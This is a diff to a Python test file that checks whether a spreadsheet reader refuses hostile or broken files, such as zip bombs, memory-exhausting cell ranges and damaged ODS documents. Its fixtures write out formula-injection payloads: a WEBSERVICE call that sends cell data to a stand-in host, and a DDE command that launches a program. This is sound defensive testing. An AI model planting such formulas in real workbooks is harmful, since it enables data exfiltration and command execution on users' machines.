@@ -4,7 +4,10 @@ from __future__ import annotations
 
 import contextlib
 import json
+import re
 import struct
+import subprocess
+import sys
 import time
 import zipfile
 from pathlib import Path
@@ -138,7 +141,67 @@ def _nothing(path: Path) -> None:
     path.write_bytes(b"")
 
 
-@pytest.mark.parametrize("make", [_bomb, _wide, _macro, _sheets, _encrypted, _truncated, _picture, _nothing])
+def _calling(path: Path) -> None:
+    book = openpyxl.Workbook()
+    assert book.active is not None
+    book.active["A1"] = '=WEBSERVICE("https://example.org/?"&A2)'
+    book.save(path)
+
+
+def _exchanging(path: Path) -> None:
+    book = openpyxl.Workbook()
+    assert book.active is not None
+    book.active["A1"] = "=cmd|'/C calc'!A0"
+    book.save(path)
+
+
+def _far_place(path: Path) -> None:
+    _workbook(path)
+    with zipfile.ZipFile(path) as old:
+        parts = {name: old.read(name) for name in old.namelist()}
+    with zipfile.ZipFile(path, "w") as new:
+        for name, data in parts.items():
+            new.writestr(name, re.sub(rb'<c r="[A-Z]+', b'<c r="ABCDEF', data) if "worksheets/" in name else data)
+
+
+HOSTILE = [
+    _bomb, _wide, _macro, _sheets, _encrypted, _truncated, _picture, _nothing, _calling, _exchanging, _far_place
+]  # fmt: skip
+PROBE = """
+import resource, sys
+from pathlib import Path
+from helixatlas.errors import InputError
+from helixatlas.ingest.readers import read_tables
+try:
+    print(10**6 + sum(len(table.rows) for table in read_tables(Path(sys.argv[1]))))
+except InputError:
+    print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024)
+"""
+
+
+@pytest.mark.parametrize("make", [_bomb, _wide, _sheets, _far_place])
+def test_a_hostile_file_is_refused_in_little_memory(tmp_path: Path, make: object) -> None:
+    path = tmp_path / "a.xlsx"
+    make(path)  # type: ignore[operator]
+    done = subprocess.run([sys.executable, "-c", PROBE, str(path)], capture_output=True, text=True, timeout=60)
+    assert done.returncode == 0, done.stderr
+    assert int(done.stdout) < 500
+
+
+def test_a_document_whose_table_never_ends_is_refused(tmp_path: Path) -> None:
+    names = ("office", "table", "text")
+    head = " ".join(f'xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"' for name in names)
+    body = '<table:table table:name="A"><table:table-row/></table:tabel>'
+    content = f"<office:document-content {head}><office:body><office:spreadsheet>{body}</office:spreadsheet>"
+    with zipfile.ZipFile(tmp_path / "a.ods", "w") as archive:
+        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
+        archive.writestr("content.xml", f"{content}</office:body></office:document-content>")
+        archive.writestr("META-INF/manifest.xml", "<manifest/>")
+    with pytest.raises(InputError, match="damaged"):
+        list(read_tables(tmp_path / "a.ods"))
+
+
+@pytest.mark.parametrize("make", HOSTILE)
 def test_a_hostile_or_broken_file_is_refused_in_a_sentence(tmp_path: Path, make: object) -> None:
     path = tmp_path / "a.xlsx"
     make(path)  # type: ignore[operator]
